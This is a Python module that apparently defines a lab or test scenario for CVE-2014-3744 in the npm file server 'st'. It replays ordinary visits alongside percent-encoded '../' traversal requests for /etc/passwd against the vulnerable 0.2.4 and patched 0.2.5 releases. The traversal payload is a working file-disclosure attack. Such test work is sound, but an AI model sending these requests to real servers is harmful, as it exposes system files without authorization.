"""st, a file server of npm: dot segments as percent escapes climb out of its folder."""

from .application import Application, Ask, Effect, Release, Side, Visit
from .common import ACCOUNTS, visitors

_CLIMB = "/%2e%2e" * 6


def _read(target: str) -> Ask:
    return Ask(target, tries=Effect.CONTENT, holds=ACCOUNTS)


ST = Application(
    name="st",
    product="st",
    purl="pkg:npm/st",
    cve="CVE-2014-3744",
    kind="file disclosure",
    installer="npm",
    sides={
        Release.VULNERABLE: Side("0.2.4", ("st@0.2.4", "morgan@1.10.0")),
        Release.PATCHED: Side("0.2.5", ("st@0.2.5", "morgan@1.10.0")),
    },
    command=("node", "/srv/program/serve.js", "PORT"),
    visits=(
        *visitors(("/", "/index.html", "/prices.html", "/favicon.ico")),
        Visit("203.0.113.66", "reads the accounts", (Ask("/"), _read(f"{_CLIMB}/etc/passwd"))),
        Visit(
            "203.0.113.67",
            "climbs too little, and asks for what is not there",
            (_read("/%2e%2e/etc/passwd"), _read(f"{_CLIMB}/etc/passwd.bak")),
        ),
        Visit(
            "203.0.113.66",
            "tries the same on the repaired release",
            (_read(f"{_CLIMB}/etc/passwd"),),
            Release.PATCHED,
        ),
        Visit(
            "198.51.100.171",
            "tries the repaired release alone",
            (_read(f"{_CLIMB}/etc/passwd"), _read("/../../../../etc/passwd")),
            Release.PATCHED,
            listed=False,
        ),
    ),
)
